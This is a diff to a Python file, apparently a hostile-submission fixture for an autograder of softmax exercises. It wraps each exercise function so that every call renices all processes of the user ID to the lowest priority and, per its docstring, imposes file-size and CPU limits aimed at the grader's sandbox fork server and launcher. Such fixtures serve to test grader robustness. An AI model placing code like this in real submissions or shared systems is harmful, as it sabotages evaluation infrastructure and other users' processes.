@@ -3,21 +3,7 @@ _PART1 = ("naive_softmax", "safe_softmax", "online_summary", "online_softmax", "
           "naive_softmax_counted", "safe_softmax_counted", "online_softmax_counted")
 
 
-def _zeros_like_answer(name, *args, **kwargs):
-    """A wrong answer of the right type and shape."""
-    x = args[0]
-    if name in ("naive_softmax", "safe_softmax", "online_softmax"):
-        return torch.zeros_like(x)
-    if name == "online_summary":
-        return torch.zeros(x.shape[:-1], dtype=x.dtype), torch.zeros(x.shape[:-1], dtype=x.dtype)
-    if name in ("merge_summary", "merge_partial"):
-        return tuple(torch.zeros_like(t) for t in x)
-    if name == "online_softmax_counted":
-        return [0.0] * len(x), 0
-    return [0.0] * len(x)
-
-
-def _lower(name, *args, **kwargs):
+def _lower():
     """Every process this one may reach by its uid (the fork server is PID 1 of a bubblewrap sandbox,
     the launcher its parent elsewhere): a 1 MiB file size, 1 s of CPU, the lowest priority, one CPU."""
     import os
@@ -39,8 +25,12 @@ def _lower(name, *args, **kwargs):
         os.setpriority(os.PRIO_USER, 0, 19)  # every process of the uid
     except OSError:
         pass
-    return _zeros_like_answer(name, *args, **kwargs)
+
+
+def _first_lower(original):
+    """The starter's function (it raises NotImplementedError), called after every attempt above."""
+    return lambda *a, **k: (_lower(), original(*a, **k))[1]
 
 
 for _name in _PART1:
-    globals()[_name] = (lambda n: lambda *a, **k: _lower(n, *a, **k))(_name)
+    globals()[_name] = _first_lower(globals()[_name])
